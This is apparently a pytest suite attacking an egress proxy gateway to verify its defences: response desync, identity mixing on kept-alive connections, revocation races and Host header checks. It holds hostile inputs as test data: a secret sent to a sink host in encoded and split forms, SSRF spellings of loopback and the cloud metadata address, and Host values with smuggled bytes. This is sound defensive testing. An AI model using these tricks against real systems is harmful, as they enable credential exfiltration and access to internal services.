"""Attack pass 3 on the fast plain-HTTP path (egress/fastpath/plain.py, http1.py), its CONNECT head
parser, the destination decision (egress/destination.py) and the guarded uvloop.

The sandbox code is hostile and knows our source; so, where it says so, is the upstream. Each
test asserts the secure (or correct) behaviour: FINDING tests failed before their fix, the others
pin a hypothesis that held. The lab: a real gateway (explicit + transparent, cubevs switch), the
hostile upstream of testbed/hostile.py and one raw upstream of ours (ODD_SERVER) that misbehaves
on purpose and logs every connection and request it reads.
"""
from __future__ import annotations

import asyncio
import json
import os
import socket
import sys
import threading
import time
from contextlib import contextmanager

import pytest

from testbed.serving import spawn_upstream
from tests.gateway import hostile_env as he
from tests.gateway.hostile_env import KEY_A, MODES, SECOND, SINK, Env, parse_h1
from tests.gateway.switchlab import switch_lab

TPORT = 18093
ODD_HOST, ODD_IP = "odd.allowed.test", "198.18.0.63"
POLICY = he.POLICY.replace("sink.allowed.test]", f"sink.allowed.test, {ODD_HOST}]", 1)
assert POLICY != he.POLICY

# A keep-alive HTTP/1.1 upstream that misbehaves by path, and logs what it reads (JSON lines).
ODD_SERVER = r"""
import json, socket, sys, threading, time
LOG = open(sys.argv[2], "a", buffering=1)
lock = threading.Lock()
n = [0]
def log(**kw):
    with lock:
        LOG.write(json.dumps(kw) + "\n")
def reply(body, extra=b""):
    return b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n%s\r\n%s" % (len(body), extra, body)
def serve(c, conn):
    buf = b""
    with c:
        while True:
            while b"\r\n\r\n" not in buf:
                d = c.recv(65536)
                if not d:
                    return
                buf += d
            head, _, buf = buf.partition(b"\r\n\r\n")
            lines = head.split(b"\r\n")
            target = lines[0].split(b" ")[1].decode()
            hdrs = [l.split(b":", 1) for l in lines[1:]]
            cl = [int(v) for k, v in hdrs if k.strip().lower() == b"content-length"]
            while cl and len(buf) < cl[0]:
                d = c.recv(65536)
                if not d:
                    return
                buf += d
            body, buf = (buf[:cl[0]], buf[cl[0]:]) if cl else (b"", buf)
            log(event="request", conn=conn, target=target, body=body.decode("latin-1"),
                headers=[[k.decode("latin-1"), v.strip().decode("latin-1")] for k, v in hdrs])
            if target.startswith("/poison-same"):      # a second response nobody asked for, same write
                c.sendall(reply(b"first") + reply(b"POISON"))
            elif target.startswith("/poison-later"):   # ... or a moment later, while the connection is idle
                c.sendall(reply(b"first"))
                time.sleep(0.3)
                c.sendall(reply(b"POISON"))
            elif target.startswith("/idle-close"):     # keep-alive answer, then an idle close (Node's 5 s, shortened)
                c.sendall(reply(b"first"))
                time.sleep(0.3)
                return
            else:
                c.sendall(reply(("fresh " + target).encode()))
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((sys.argv[1], 80)); s.listen(64)
print("READY", flush=True)
while True:
    c, peer = s.accept()
    n[0] += 1
    log(event="connect", conn=n[0])
    threading.Thread(target=serve, args=(c, n[0]), daemon=True).start()
"""


@contextmanager
def _env(lab, tmp):
    hostile = he.ensure_hostile(lab)
    with switch_lab(lab, tmp, POLICY, sandbox=he.SANDBOX, tport=TPORT, prefix="a3",
                    before_start=he.setup_vault) as (gw, sw, net):
        out = gw.cli("identity", "placeholders", he.SANDBOX)
        phs = dict(line.split("=", 1) for line in out.split() if "=" in line)
        yield Env(gw, sw, net, hostile, phs["CUBEGATE_SECRET_HKEY"])


@pytest.fixture(scope="module")
def env(lab, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("attack3")
    log_path = tmp / "odd.jsonl"
    log_path.write_text("")
    lab.add_host(ODD_HOST, ODD_IP)
    popen = spawn_upstream(lab, [sys.executable, "-c", ODD_SERVER, ODD_IP, str(log_path)], "odd")
    try:
        with _env(lab, tmp) as e:
            e.odd_log = log_path
            yield e
    finally:
        popen.kill()
        popen.wait(5)


def _odd(env, marker: str | None = None, event: str = "request") -> list[dict]:
    out = [json.loads(line) for line in env.odd_log.read_text().splitlines() if line.strip()]
    out = [r for r in out if r["event"] == event]
    return [r for r in out if marker is None or marker in r.get("target", "")]


def _odd_connects(env) -> int:
    return len(_odd(env, event="connect"))


def _marker() -> str:
    return "a3-" + os.urandom(5).hex()


def _head(sb, path: str, *, host: str = ODD_HOST, method: str = "GET", headers=(), auth: str | None = None) -> bytes:
    explicit = sb.mode == "explicit"
    target = f"http://{host}{path}" if explicit else path
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}"] + [f"{k}: {v}" for k, v in headers]
    if explicit:
        lines.append(auth or sb.auth)
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def _read_one(sock: socket.socket, timeout: float = 5.0) -> tuple[int, bytes, bytes]:
    """(status, head, body) of one Content-Length response; the rest stays in the socket."""
    sock.settimeout(timeout)
    buf = b""
    while b"\r\n\r\n" not in buf:
        d = sock.recv(65536)
        if not d:
            return 0, buf, b""
        buf += d
    head, _, rest = buf.partition(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    n = 0
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        if k.strip().lower() == b"content-length":
            n = int(v)
    while len(rest) < n:
        d = sock.recv(65536)
        if not d:
            break
        rest += d
    assert len(rest) <= n, f"bytes after the response: {rest[n:][:100]!r}"
    return status, head, rest[:n]


def _addr(sb):
    return ODD_IP


def _probe(sb, path: str):
    """One request on a new connection (Connection: close), the response read until the close."""
    with sb.plain(_addr(sb)) as s:
        s.sendall(_head(sb, path)[:-2] + b"Connection: close\r\n\r\n")
        return parse_h1(he.recv_until_close(s))


# --------------------------------------------------------------- upstream response desync
@pytest.mark.netns
@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("shape", ["poison-same", "poison-later"])
def test_bytes_after_a_response_never_answer_the_next_request(env, mode, shape):
    """HOLDS: an upstream that sends a second, unasked-for response (in the same write or while the
    connection idles) cannot make it the answer to the sandbox's next request: the connection that
    misbehaved is dropped and the next request gets its own, on a new upstream connection."""
    sb = env.sandbox(mode)
    m = _marker()
    with sb.plain(_addr(sb)) as s:
        s.sendall(_head(sb, f"/{shape}-{m}"))
        status, _, body = _read_one(s)
        assert (status, body) == (200, b"first")
        time.sleep(0.6)
        s.sendall(_head(sb, f"/next-{m}"))
        status, _, body = _read_one(s)
        assert status == 200 and body == f"fresh /next-{m}".encode(), body
    assert [r["target"] for r in _odd(env, m)] == [f"/{shape}-{m}", f"/next-{m}"]


# --------------------------------------------------------------- kept-alive upstream reuse
@pytest.mark.netns
@pytest.mark.parametrize("mode", MODES)
def test_an_upstream_idle_close_while_a_body_is_held_reconnects(env, mode):
    """FINDING: a request decided while the kept-alive upstream connection was open skips the resolve
    (`connected_to`: no addresses). If that connection closed while the body was being held for the
    leak check (an upstream's keep-alive timeout), the new connection had no address to dial: a
    spurious 502 `upstream_connect_failed` ('no allowed address') for a good request."""
    sb = env.sandbox(mode)
    m = _marker()
    with sb.plain(_addr(sb)) as s:
        s.sendall(_head(sb, f"/idle-close-{m}"))
        assert _read_one(s)[:1] == (200,)
        s.sendall(_head(sb, f"/post-{m}", method="POST", headers=[("Content-Length", "5")]))
        time.sleep(0.8)                 # the upstream closes its idle connection meanwhile
        s.sendall(b"hello")
        status, head, body = _read_one(s)
    assert status == 200 and body == f"fresh /post-{m}".encode(), (head, body)
    (got,) = _odd(env, f"/post-{m}")
    assert got["body"] == "hello"


@pytest.mark.netns
def test_an_upstream_connection_is_not_shared_between_identities(env):
    """FINDING: one explicit-proxy client connection may carry requests of two sandboxes (each
    authenticates). The kept-alive upstream connection was reused for the second sandbox: keyed by
    host:port only, counted in the first sandbox's upstream budget, its requests riding on a
    connection the first one opened. It must be reused only for the same host:port and identity."""
    sb = env.sandbox("explicit")
    other = env.sandbox("explicit", SECOND)
    m = _marker()
    before = _odd_connects(env)
    with sb.plain(_addr(sb)) as s:
        s.sendall(_head(sb, f"/a-{m}"))
        assert _read_one(s)[0] == 200
        s.sendall(_head(sb, f"/b-{m}", auth=other.auth))
        assert _read_one(s)[0] == 200
        s.sendall(_head(sb, f"/c-{m}"))
        assert _read_one(s)[0] == 200
    assert len(_odd(env, m)) == 3
    conns = [r["conn"] for r in _odd(env, m)]
    assert conns[0] != conns[1] != conns[2], conns
    assert _odd_connects(env) - before == 3


@pytest.mark.netns
@pytest.mark.parametrize("mode", MODES)
def test_same_host_same_identity_keeps_one_upstream_connection(env, mode):
    """HOLDS (and the fixes above keep it): keep-alive to the same host reuses one connection."""
    sb = env.sandbox(mode)
    m = _marker()
    with sb.plain(_addr(sb)) as s:
        for i in range(3):
            s.sendall(_head(sb, f"/k{i}-{m}"))
            assert _read_one(s)[0] == 200
    assert len({r["conn"] for r in _odd(env, m)}) == 1


# --------------------------------------------------------------- leak checks
def _leak_refused(resp) -> bool:
    return resp.status == 0 or (resp.status == 403 and resp.reason == "credential_leak")


@pytest.mark.netns
@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("where", ["chunks", "percent_query", "json_escaped_body", "split_headers", "hex_upper_body",
                                   "base64_header", "placeholder_in_query", "gzip_held", "gzip_chunked"])
def test_a_secret_in_another_spelling_or_split_is_refused(env, mode, where):
    """HOLDS: the key (bound to hostile.allowed.test) sent to the sink split across chunks, percent-
    encoded in the query, JSON-escaped (`\\/`) in a body, or split across two headers, is refused
    before the upstream has it whole."""
    sb = env.sandbox(mode)
    m = _marker()
    key = KEY_A.encode()
    path, headers, body = f"/{m}", [], b""
    if where == "chunks":
        headers = [("Transfer-Encoding", "chunked")]
        body = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in (key[:7], key[7:15], key[15:])) + b"0\r\n\r\n"
    elif where == "percent_query":
        path += "?k=" + "".join(f"%{b:02X}" for b in key)
    elif where == "json_escaped_body":
        data = b'{"k": "' + key.replace(b"/", b"\\/") + b'"}'
        headers, body = [("Content-Type", "application/json"), ("Content-Length", str(len(data)))], data
    elif where == "hex_upper_body":
        data = key.hex().upper().encode()
        headers, body = [("Content-Length", str(len(data)))], data
    elif where == "base64_header":
        import base64
        headers = [("X-Token", base64.b64encode(b"user:" + key).decode())]
    elif where in ("gzip_held", "gzip_chunked"):
        import gzip
        data = gzip.compress(b"x" * 5000 + key + b"y" * 5000)
        if where == "gzip_held":
            headers, body = [("Content-Encoding", "gzip"), ("Content-Length", str(len(data)))], data
        else:
            headers = [("Content-Encoding", "gzip"), ("Transfer-Encoding", "chunked")]
            body = b"".join(b"%x\r\n%s\r\n" % (len(data[i:i + 7]), data[i:i + 7])
                            for i in range(0, len(data), 7)) + b"0\r\n\r\n"
    elif where == "placeholder_in_query":
        path += "?k=" + env.placeholder
    else:
        headers = [("X-A", KEY_A[:12]), ("X-B", KEY_A[12:])]
    raw = _head(sb, path, host=SINK, method="POST" if body else "GET", headers=headers + [("Connection", "close")])
    resp = sb.exchange("http", SINK, raw + body)
    assert _leak_refused(resp), resp
    for r in env.hostile.requests(m):
        assert not he.found_forms(r["body"], KEY_A) and r.get("body_complete") is not True, r


# --------------------------------------------------------------- revocation vs. the resolve
class _SlowDNS:
    """A loopback DNS server (dnspython messages) that runs `during` before it answers a query:
    a policy change that lands while the gateway waits for its resolve."""

    def __init__(self, answer_ip: str, during) -> None:
        import dns.message
        import dns.rrset
        self._msg, self._rrset = dns.message, dns.rrset
        self.answer_ip, self.during = answer_ip, during
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.settimeout(5)
        self.port = self.sock.getsockname()[1]
        self.queries = 0
        self._stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                data, peer = self.sock.recvfrom(4096)
            except (socket.timeout, OSError):
                return
            q = self._msg.from_wire(data)
            self.queries += 1
            if self.queries == 1:
                self.during()
            r = self._msg.make_response(q)
            question = q.question[0]
            if question.rdtype == 1:   # A
                r.answer.append(self._rrset.from_text(question.name, 0, "IN", "A", self.answer_ip))
            self.sock.sendto(r.to_wire(), peer)

    def close(self) -> None:
        self._stop = True
        self.sock.close()


def test_a_revocation_during_the_resolve_is_not_missed(tmp_path):
    """FINDING: decide_destination decides, then awaits the guarded resolve; the caller registers the
    connection for revocation after it returns. A grant revoked (or a policy changed) while the
    resolve was in flight was applied to the open connections before this one was registered, and
    the stale allow was returned: the tunnel or request went out, and stayed open, under a policy
    that denies it. The decision must be the one of the policy in force when the verdict is given."""
    from egress.conn_state import ConnState
    from egress.destination import DecisionCache, decide_destination
    from egress.identity import Identity
    from egress.netguard import AddressGuard, GuardedResolver
    from egress.policy.live import LivePolicies
    from egress.policy.reload import PolicyStore
    from egress.policy.repo import PolicyRepo

    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "base.yaml").write_text("name: base\ndefault: deny\nrules: []\n")
    repo = PolicyRepo(tmp_path / "policies.db")
    live = LivePolicies(PolicyStore(tmp_path / "p"), repo)
    guard = AddressGuard(allow_cidrs=["198.18.0.0/15"])
    try:
        for cache in (None, DecisionCache()):
            name = f"g{id(cache)}"
            live.put_grant(name, {"applies_to": {"sandboxes": ["sb-1"]}, "hosts": ["slow.grant.test"]}, actor="t")
            dns_server = _SlowDNS("198.18.0.99", lambda: live.delete_grant(name, actor="t", action="revoke"))
            try:
                resolver = GuardedResolver(guard, [f"127.0.0.1:{dns_server.port}"], timeout=3)
                st = ConnState(conn_id="c1", client="x", started=0.0)
                st.identity = Identity("sb-1", {})
                verdict = asyncio.run(decide_destination(
                    st, "slow.grant.test", 443, policies=live, guard=guard, resolver=resolver,
                    scheme=None, method=None, path=None, cache=cache))
            finally:
                dns_server.close()
            assert dns_server.queries >= 1, "the resolve never happened: the test proves nothing"
            allowed = verdict.refusal is None and verdict.decision is not None and verdict.decision.action == "allow"
            assert not allowed, f"stale allow after the grant was revoked mid-resolve: {verdict}"
    finally:
        repo.close()


# --------------------------------------------------------------- guarded uvloop
@pytest.mark.netns
def test_ai_passive_on_a_connect_does_not_switch_the_guard_off(lab):
    """FINDING (latent, no caller passes it today): getaddrinfo lets AI_PASSIVE lookups (binding)
    through unguarded, and GuardedUVLoop passed a connect's own `flags` on to it: so
    create_connection("2130706433", port, flags=AI_PASSIVE) (or a datagram endpoint's remote)
    was resolved by libc and connected to loopback. A remote name is always guarded."""
    from egress import netguard
    from egress.guarded_uvloop import GuardedUVLoop
    from egress.netguard import DestinationBlocked
    from tests.netguard.test_guarded_uvloop import canary, make_resolver, run_in_lab

    async def go():
        loop = asyncio.get_running_loop()
        uninstall = netguard.install(loop, make_resolver(lab))
        server, port, hits = await canary()
        out = {}
        try:
            for name in ("2130706433", "127.1", "loopback.evil.test"):
                for kind in ("stream", "datagram"):
                    try:
                        if kind == "stream":
                            t, _ = await loop.create_connection(asyncio.Protocol, name, port, flags=socket.AI_PASSIVE)
                        else:
                            t, _ = await loop.create_datagram_endpoint(asyncio.DatagramProtocol,
                                                                       remote_addr=(name, port),
                                                                       flags=socket.AI_PASSIVE)
                        t.close()
                        out[(name, kind)] = "connected"
                    except DestinationBlocked as e:
                        out[(name, kind)] = e.reason
        finally:
            uninstall()
            await asyncio.sleep(0.05)
            server.close()
        return out, len(hits)

    out, hits = run_in_lab(lab, go, GuardedUVLoop)
    assert hits == 0 and set(out.values()) == {"loopback"}, out


# --------------------------------------------------------------- policy change mid keep-alive
@pytest.mark.netns
@pytest.mark.parametrize("mode", MODES)
def test_a_policy_change_between_kept_alive_requests_is_not_missed(env, mode):
    """HOLDS: the `connected_to` shortcut skips the resolve, never the decision: after the host is
    removed from the policy, the next request on a connection (and an upstream connection) already
    open to it is refused (or the connection revoked), and the upstream never sees it."""
    sb = env.sandbox(mode)
    m = _marker()
    (policy,) = [p for p in env.gw.policy_dir.iterdir() if ODD_HOST in p.read_text()]
    original = policy.read_text()
    with sb.plain(_addr(sb)) as s:
        s.sendall(_head(sb, f"/before-{m}"))
        assert _read_one(s)[0] == 200
        _write_policy_everywhere(sb, policy, original.replace(f", {ODD_HOST}]", "]", 1), 403)
        try:
            try:
                s.sendall(_head(sb, f"/after-{m}"))
                status = _read_one(s)[0]
            except OSError:
                status = 0                          # revoked: reset
            assert status in (0, 403), status
        finally:
            _write_policy_everywhere(sb, policy, original, 200)
    assert f"/after-{m}" not in [r["target"] for r in _odd(env, m)]


PROBES_AGREEING = 16   # new connections in a row: all on one worker of two has odds 2 * 2**-16


def _write_policy_everywhere(sb, path, text: str, status: int) -> None:
    """Writes a policy file (renamed in whole: no poll reads half of it) and returns once every
    worker answers by it: each worker polls the files on its own, a kept-alive connection sits on
    whichever the kernel picked, and a worker that reloaded stays reloaded."""
    staged = path.parent.parent / f"{path.name}.staged"
    staged.write_text(text)
    os.replace(staged, path)
    deadline, agreeing = time.monotonic() + 15, 0
    while agreeing < PROBES_AGREEING:
        assert time.monotonic() < deadline, f"the workers did not all answer {status} in 15 s"
        agreeing = agreeing + 1 if _probe(sb, f"/probe-{os.urandom(3).hex()}").status == status else 0


# --------------------------------------------------------------- CONNECT heads
@pytest.mark.parametrize("host", ["2130706433", "0x7f.1", "0x7f000001", "017700000001", "127.1", "127.0.0.1.",
                                  "0177.0.0.1", "0", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
                                  "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1]", "169.254.169.254",
                                  "0xa9.0xfe.0xa9.0xfe", "224.0.0.1", "255.255.255.255"])
def test_every_ip_spelling_the_connect_parser_accepts_is_guarded(host):
    """HOLDS: what heads.parse_connect accepts as a host name (digits, hex, octal, short forms, a
    trailing dot: `_REG_NAME` admits them) is an IP literal to decide_destination, and the SSRF guard
    refuses it before any policy or resolve; nothing here is resolved as a name."""
    from egress.conn_state import ConnState
    from egress.destination import decide_destination
    from egress.fastpath.heads import parse_connect
    from egress.identity import Identity
    from egress.netguard import AddressGuard

    connect = parse_connect(f"CONNECT {host}:443 HTTP/1.1\r\nProxy-Authorization: Basic eDp5\r\n\r\n".encode())
    if connect is None:
        return                       # handed to mitmproxy, which the gate decides as before
    st = ConnState(conn_id="c", client="x", started=0.0, identity=Identity("sb-1", {}))

    class _NoPolicy:                 # never asked: the guard must refuse first
        @property
        def current(self):
            raise AssertionError(f"{host}: decided by policy instead of the SSRF guard")

    class _NoResolver:
        async def resolve(self, *a):
            raise AssertionError(f"{host}: resolved as a name")

    verdict = asyncio.run(decide_destination(st, connect.host, connect.port, policies=_NoPolicy(),
                                             guard=AddressGuard(), resolver=_NoResolver(),
                                             scheme=None, method=None, path=None))
    assert verdict.refusal is not None and verdict.refusal.reason.startswith("ssrf_"), verdict


@pytest.mark.parametrize("head", [
    b"CONNECT a.test:443 HTTP/1.1\r\nProxy-Authorization: Basic eDp5\r\nProxy-Authorization: Basic eDp5\r\n\r\n",
    b"CONNECT a.test:443 HTTP/1.1\r\nproxy-authorization: Basic eDp5\r\nPROXY-AUTHORIZATION: Basic eDp6\r\n\r\n",
])
def test_two_proxy_authorizations_are_never_one_identity(head):
    """HOLDS: two Proxy-Authorization headers (any case) give no credentials (→ 407), never the first."""
    from egress.fastpath.heads import parse_connect
    c = parse_connect(head)
    assert c is None or (c.proxy_authorization is None and c.has_proxy_authorization)


@pytest.mark.parametrize("target", [b"a.test:0443", b"a.test:65536", b"a.test:+443", b"[::1%25lo]:443", b"a.test%2e:443",
                                    b"a\xc3\xa9.test:443", b"a.test :443", b"a.test:443:443", b"[::1:443",
                                    b"a..test:443", b"." + b"a" * 64 + b".test:443", b"a.test:"])
def test_odd_connect_targets_are_not_taken_by_the_fast_path(target):
    """HOLDS: zero-padded/out-of-range ports, zone ids, percent-encoding, non-ASCII, empty labels and
    over-long labels are not parsed by our strict CONNECT parser (mitmproxy gets them, as before)."""
    from egress.fastpath.heads import parse_connect
    assert parse_connect(b"CONNECT " + target + b" HTTP/1.1\r\n\r\n") is None


# --------------------------------------------------------------- kernel splice off
def _descendants(pid: int) -> list[int]:
    kids: dict[int, list[int]] = {}
    for d in os.listdir("/proc"):
        if d.isdigit():
            try:
                ppid = int(open(f"/proc/{d}/stat").read().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            kids.setdefault(ppid, []).append(int(d))
    out, todo = [], [pid]
    while todo:
        p = todo.pop()
        out.append(p)
        todo += kids.get(p, [])
    return out


@pytest.mark.netns
def test_kernel_splice_off_attaches_nothing(env):
    """HOLDS: with proxy.kernel_splice at its default (off) no process of the gateway holds a BPF
    sockmap/sockhash or an sk_skb/sk_msg program (what cubevs.splice would load), however much
    tunnel traffic passes; the setting is read from the daemon's settings only (no API sets it)."""
    sb = env.sandbox("explicit")
    for _ in range(3):
        assert sb.get("https", SINK, "/splice-probe").status in (200, 404)
    found = []
    for pid in _descendants(env.gw.proc.pid):
        try:
            fds = os.listdir(f"/proc/{pid}/fdinfo")
        except OSError:
            continue
        for fd in fds:
            try:
                info = open(f"/proc/{pid}/fdinfo/{fd}").read()
            except OSError:
                continue
            for line in info.splitlines():
                k, _, v = line.partition(":")
                if (k == "map_type" and v.strip() in ("15", "18")) or (k == "prog_type" and v.strip() in ("14", "16")):
                    found.append((pid, fd, line))
    assert found == [], found
    settings = (env.gw.dir / "settings.json").read_text() if (env.gw.dir / "settings.json").exists() else ""
    assert "kernel_splice" not in settings or '"off"' in settings


# --------------------------------------------------------------- Host: what we check is what goes out
@pytest.mark.netns
@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("value", [b"odd.allowed.test\xa0", b"\x85odd.allowed.test", b"odd.allowed.test\xa0:80",
                                   b"odd.allowed.test\x1c", b"odd.allowed.test \t", b"", b"ODD.allowed.test.:80"])
def test_a_host_header_is_forwarded_only_as_the_name_that_was_decided(env, mode, value):
    """FINDING: the Host header names the destination (transparent) or must name the target
    (explicit); it was checked after Python's str.strip(), which also strips NBSP (\\xa0), NEL (\\x85)
    and \\x1c-\\x1f, but forwarded byte for byte. The upstream (a virtual-host router, a CDN) then read
    a Host that is not the name we decided. A Host with such bytes is refused; plain OWS is trimmed."""
    sb = env.sandbox(mode)
    m = _marker()
    path = f"/host-{m}"
    target = f"http://{ODD_HOST}{path}" if sb.mode == "explicit" else path
    lines = [f"GET {target} HTTP/1.1".encode(), b"Host: " + value, b"Connection: close"]
    if sb.mode == "explicit":
        lines.append(sb.auth.encode())
    with sb.plain(_addr(sb)) as s:
        s.sendall(b"\r\n".join(lines) + b"\r\n\r\n")
        resp = parse_h1(he.recv_until_close(s))
    got = _odd(env, m)
    if value == b"" and mode == "transparent":
        assert resp.status == 400 and got == [], resp       # no destination
    elif value.strip(b" \t") in (ODD_HOST.encode(), b"", b"ODD.allowed.test.:80"):
        assert resp.status == 200, resp
        (req,) = got
        sent = value.strip(b" \t").decode() if mode == "transparent" else ODD_HOST   # explicit: the target's
        assert [v for k, v in req["headers"] if k.lower() == "host"] == [sent], req["headers"]
    else:
        assert resp.status == 400 and resp.reason in ("invalid_host", "bad_header_value"), resp
        assert got == [], got
